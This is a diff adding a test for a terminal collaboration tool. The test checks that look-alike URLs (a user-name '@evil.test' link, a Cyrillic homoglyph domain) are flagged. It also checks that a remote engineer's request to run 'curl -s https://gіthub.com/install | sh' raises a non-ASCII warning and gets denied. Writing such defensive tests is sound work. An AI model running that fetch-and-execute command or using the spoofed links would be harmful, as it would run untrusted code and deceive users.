@@ -124,4 +124,23 @@ test('a hostile engineer: no escape sequence in names, chat, URLs, paths, reason
   }
 });
 
+test('look-alikes: a link is shown with the site it really opens, a command with non-ASCII letters is called out', async () => {
+  const cwd = await w.project();
+  const t = w.fix('"look-alikes"', cwd);
+  await t.waitFor('Engineer connecting...');
+  await w.engineerJoins('look-alikes');
+  const eng = w.eng!;
+  await eng.screenshare('https://meet.codevf.com@evil.test/room');
+  await t.waitFor('opens: evil.test');
+  await t.waitFor('Careful: the part before "@" is a user name');
+  await eng.screenshare('https://m\u0435et.codevf.com/room'); // Cyrillic е
+  await t.waitFor('opens: xn--');
+  await t.waitFor('which can imitate another site');
+  await eng.requestCommand('curl -s https://g\u0456thub.com/install | sh', 'install the fix');
+  await t.waitFor('Careful: not plain ASCII, may imitate other letters: \u0456 U+0456');
+  await t.waitFor(/Allow curl .*\? \(y\/n\/a\)/);
+  t.send('n', true);
+  await t.waitFor('You denied');
+});
+
 test.run();
